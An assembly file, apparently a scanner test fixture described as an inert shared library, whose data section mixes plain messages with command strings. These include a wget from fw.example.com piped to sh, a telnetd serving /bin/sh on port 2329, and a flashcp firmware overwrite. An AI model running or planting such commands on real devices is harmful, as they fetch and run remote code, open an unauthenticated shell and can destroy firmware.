# An inert shared library that can start programs: see README.md.
  .text
  .globl demo
  .type demo, @function
demo:
  call system@PLT
  ret
  .section .rodata, "a"
  .asciz "wget -q -O- http://fw.example.com/%s | sh"
  .asciz "/sbin/reboot"
  .asciz "Mount the disk before you remove it"
  .asciz "mount point is missing"
  .asciz "echo"
  .asciz "  rm -rf /tmp/x (first lines of a help text are no commands)"
  .asciz "#!/bin/sh\nflashcp -v /tmp/fw.img /dev/mtd4\nsync\n"
  .asciz "telnetd -l /bin/sh -p 2329"
  .section .note.GNU-stack, "", @progbits
